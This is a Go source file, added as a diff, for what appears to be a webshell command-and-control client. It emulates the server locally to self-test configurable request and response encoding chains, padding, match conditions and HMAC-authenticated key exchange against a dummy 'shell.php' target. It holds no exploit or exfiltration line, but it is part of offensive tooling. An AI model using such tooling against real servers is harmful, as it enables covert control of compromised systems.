@@ -0,0 +1,231 @@
+package c2
+
+import (
+	"bytes"
+	"caffeine/core"
+	"crypto/hmac"
+	"fmt"
+	"net/http"
+	"strings"
+)
+
+// 配置自检：在本地模拟服务端，验证请求与响应两个方向的配置是否对称
+
+// 自检阶段
+const (
+	StageKeyExchange  = "key-exchange"  // 模拟会话密钥协商
+	StageRequest      = "request"       // RequestHandler 生成请求
+	StageServerMatch  = "server-match"  // 服务端匹配请求方法与条件
+	StageServerDecode = "server-decode" // 服务端取出载荷，去除填充并按请求链逆序解码
+	StageServerEncode = "server-encode" // 服务端按响应链编码并添加填充
+	StageResponse     = "response"      // ResponseHandler 解析响应
+)
+
+// selfTestReply 模拟服务端返回的固定内容
+var selfTestReply = []byte("caffeine self-test reply\x00\x01\x02\xff")
+
+// 自检使用的虚拟目标，配置未设置载荷字段名时使用 selfTestPassword
+const (
+	selfTestURL       = "http://selftest.local/shell.php"
+	selfTestPassword  = "pass"
+	selfTestSessionID = "selftest"
+)
+
+// SelfTestStage 单个阶段的结果
+type SelfTestStage struct {
+	Name   string `json:"name"`
+	OK     bool   `json:"ok"`
+	Detail string `json:"detail,omitempty"`
+}
+
+// SelfTestReport 自检报告
+type SelfTestReport struct {
+	Stages []SelfTestStage `json:"stages"`
+}
+
+// OK 全部阶段是否通过
+func (r *SelfTestReport) OK() bool {
+	return r.Failed() == nil
+}
+
+// Failed 返回第一个失败的阶段
+func (r *SelfTestReport) Failed() *SelfTestStage {
+	for i := range r.Stages {
+		if !r.Stages[i].OK {
+			return &r.Stages[i]
+		}
+	}
+	return nil
+}
+
+func (r *SelfTestReport) pass(name, format string, args ...interface{}) {
+	r.Stages = append(r.Stages, SelfTestStage{Name: name, OK: true, Detail: fmt.Sprintf(format, args...)})
+}
+
+func (r *SelfTestReport) fail(name, format string, args ...interface{}) *SelfTestReport {
+	r.Stages = append(r.Stages, SelfTestStage{Name: name, Detail: fmt.Sprintf(format, args...)})
+	return r
+}
+
+// SelfTest 将操作依次经过 RequestHandler、模拟服务端与 ResponseHandler，报告第一个出错的阶段
+func SelfTest(profile C2Yaml, operation []byte) *SelfTestReport {
+	report := &SelfTestReport{}
+	session := &core.Session{Target: core.Target{ShellURL: selfTestURL}}
+	if profile.Request.Payload.Name == "" {
+		session.Target.Password = selfTestPassword
+	}
+
+	if profile.Key.Exchange != "" {
+		sessionKey, token, err := emulateKeyExchange(profile.Key)
+		if err != nil {
+			return report.fail(StageKeyExchange, "%v", err)
+		}
+		session.SessionKey = sessionKey
+		session.SessionToken = token
+		report.pass(StageKeyExchange, "%s 会话密钥 %d 字节", profile.Key.Exchange, len(sessionKey))
+	}
+	key := sessionCipherKey(profile.Key, session)
+
+	req, err := NewRequestHandler(profile).Handler(session, operation)
+	if err != nil {
+		return report.fail(StageRequest, "%v", err)
+	}
+	report.pass(StageRequest, "%s %s，载荷位置 %s，请求体 %d 字节", req.Method, req.URL, profile.Request.Payload.location(), len(req.Body))
+
+	if req.Method != profile.Request.Method {
+		return report.fail(StageServerMatch, "请求方法 %s，期望 %s", req.Method, profile.Request.Method)
+	}
+	for i, condition := range profile.Request.Condition {
+		if !condition.Match(req) {
+			return report.fail(StageServerMatch, "请求不满足 condition[%d] %s %s", i, condition.Type, condition.Value)
+		}
+	}
+	report.pass(StageServerMatch, "满足 %d 个条件", len(profile.Request.Condition))
+
+	payload, err := profile.Request.Payload.extract(req, profile.Request.Payload.fieldName(session.Target))
+	if err != nil {
+		return report.fail(StageServerDecode, "%v", err)
+	}
+	received, err := emulateServerDecode(profile.Request, payload, &key)
+	if err != nil {
+		return report.fail(StageServerDecode, "%v", err)
+	}
+	if !bytes.Equal(received, operation) {
+		return report.fail(StageServerDecode, "服务端解码结果与原始操作不一致: %q", excerpt(received))
+	}
+	report.pass(StageServerDecode, "还原操作 %d 字节", len(received))
+
+	response, err := emulateServerEncode(profile.Response, selfTestReply, &key)
+	if err != nil {
+		return report.fail(StageServerEncode, "%v", err)
+	}
+	report.pass(StageServerEncode, "状态码 %d，响应体 %d 字节", response.StatusCode(), len(response.Body))
+
+	reply, err := NewResponseHandler(profile).Handler(session, response)
+	if err != nil {
+		return report.fail(StageResponse, "%v", err)
+	}
+	if !bytes.Equal(reply, selfTestReply) {
+		return report.fail(StageResponse, "响应解码结果与服务端输出不一致: %q", excerpt(reply))
+	}
+	report.pass(StageResponse, "还原响应 %d 字节", len(reply))
+	return report
+}
+
+// emulateKeyExchange 在本地完成双方的密钥协商，按 shell 的流程校验双方的 HMAC 与派生的会话密钥
+func emulateKeyExchange(key CipherKey) ([]byte, string, error) {
+	authKey := key.AuthKey()
+	if len(authKey) == 0 {
+		return nil, "", fmt.Errorf("密钥协商需要配置 aes 密钥用于认证")
+	}
+	client, err := core.NewKeyExchange()
+	if err != nil {
+		return nil, "", err
+	}
+	server, err := core.NewKeyExchange()
+	if err != nil {
+		return nil, "", err
+	}
+	clientPublic, serverPublic := client.PublicKey(), server.PublicKey()
+	// 服务端使用 shell 中的 $aeskey 认证，对应配置中的AES密钥
+	shellKey := key.AESKey
+	clientMac := core.KexMAC(authKey, core.KexClientLabel, clientPublic)
+	if !hmac.Equal(clientMac, core.KexMAC(shellKey, core.KexClientLabel, clientPublic)) {
+		return nil, "", fmt.Errorf("服务端校验客户端公钥失败")
+	}
+	serverMac := core.KexMAC(shellKey, core.KexServerLabel, clientPublic, serverPublic, []byte(selfTestSessionID))
+	if !hmac.Equal(serverMac, core.KexMAC(authKey, core.KexServerLabel, clientPublic, serverPublic, []byte(selfTestSessionID))) {
+		return nil, "", fmt.Errorf("客户端校验服务端公钥失败")
+	}
+	salt := append(append([]byte{}, clientPublic...), serverPublic...)
+	clientKey, err := client.DeriveKey(serverPublic, salt)
+	if err != nil {
+		return nil, "", err
+	}
+	serverKey, err := server.DeriveKey(clientPublic, salt)
+	if err != nil {
+		return nil, "", err
+	}
+	if !bytes.Equal(clientKey, serverKey) {
+		return nil, "", fmt.Errorf("双方派生的会话密钥不一致")
+	}
+	return clientKey, selfTestSessionID, nil
+}
+
+// emulateServerDecode 去除载荷填充，按请求链逆序解码
+func emulateServerDecode(conf C2Request, payload []byte, key *CipherKey) ([]byte, error) {
+	if len(conf.FrontPadding)+len(conf.BackPadding) > len(payload) {
+		return nil, fmt.Errorf("填充长度超过载荷长度")
+	}
+	if !bytes.HasPrefix(payload, []byte(conf.FrontPadding)) || !bytes.HasSuffix(payload, []byte(conf.BackPadding)) {
+		return nil, fmt.Errorf("载荷填充不匹配")
+	}
+	data := payload[len(conf.FrontPadding) : len(payload)-len(conf.BackPadding)]
+	codecs, err := ParseCodecChain(conf.EncodeChain)
+	if err != nil {
+		return nil, err
+	}
+	for i := len(codecs) - 1; i >= 0; i-- {
+		if data, err = codecs[i].Decode(data, key); err != nil {
+			return nil, fmt.Errorf("request.encode_chain[%d] %s decode: %v", i, codecs[i].Name(), err)
+		}
+	}
+	return data, nil
+}
+
+// emulateServerEncode 按响应链编码，添加填充并设置配置中的状态码与响应头
+func emulateServerEncode(conf C2Response, reply []byte, key *CipherKey) (*core.HttpResponse, error) {
+	codecs, err := ParseCodecChain(conf.EncodeChain)
+	if err != nil {
+		return nil, err
+	}
+	data := reply
+	for i, codec := range codecs {
+		if data, err = codec.Encode(data, key); err != nil {
+			return nil, fmt.Errorf("response.encode_chain[%d] %s encode: %v", i, codec.Name(), err)
+		}
+	}
+	headers := make(http.Header)
+	for _, header := range conf.Headers {
+		split := strings.SplitN(header, ":", 2)
+		if len(split) == 2 {
+			headers.Add(strings.TrimSpace(split[0]), strings.TrimSpace(split[1]))
+		}
+	}
+	code := conf.Code
+	if code == 0 {
+		code = http.StatusOK
+	}
+	body := make([]byte, 0, len(conf.FrontPadding)+len(data)+len(conf.BackPadding))
+	body = append(body, conf.FrontPadding...)
+	body = append(body, data...)
+	body = append(body, conf.BackPadding...)
+	return core.NewHttpResponse(code, headers, body), nil
+}
+
+func excerpt(data []byte) []byte {
+	if len(data) > excerptLength {
+		return data[:excerptLength]
+	}
+	return data
+}